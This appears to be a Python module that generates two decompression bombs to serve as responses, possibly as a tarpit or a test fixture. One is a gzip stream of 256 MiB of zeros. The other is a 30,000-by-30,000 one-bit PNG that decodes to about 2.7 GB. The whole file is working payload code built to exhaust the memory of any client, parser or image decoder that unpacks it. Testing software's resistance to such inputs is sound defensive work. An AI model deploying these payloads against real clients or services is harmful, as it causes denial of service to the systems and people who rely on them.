"""Two answers that are small on the wire and huge in memory."""

import struct
import zlib
from functools import cache

GZIP_BOMB_BYTES = 256 * 2**20
PIXEL_BOMB_SIDE = 30_000


@cache
def gzip_bomb() -> bytes:
    """Zeros, packed about a thousand times smaller."""
    packer = zlib.compressobj(wbits=31)
    zeros = bytes(2**20)
    packed = [packer.compress(zeros) for _ in range(GZIP_BOMB_BYTES // len(zeros))]
    return b"".join(packed) + packer.flush()


@cache
def pixel_bomb() -> bytes:
    """A black PNG of one bit a pixel; 900 million pixels, 2.7 GB as RGB."""
    packer = zlib.compressobj()
    rows = bytes(1 + PIXEL_BOMB_SIDE // 8) * 100
    packed = [packer.compress(rows) for _ in range(PIXEL_BOMB_SIDE // 100)]
    header = struct.pack(">IIBBBBB", PIXEL_BOMB_SIDE, PIXEL_BOMB_SIDE, 1, 0, 0, 0, 0)
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            _chunk(b"IHDR", header),
            _chunk(b"IDAT", b"".join(packed) + packer.flush()),
            _chunk(b"IEND", b""),
        )
    )


def _chunk(kind: bytes, content: bytes) -> bytes:
    checksum = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", checksum)
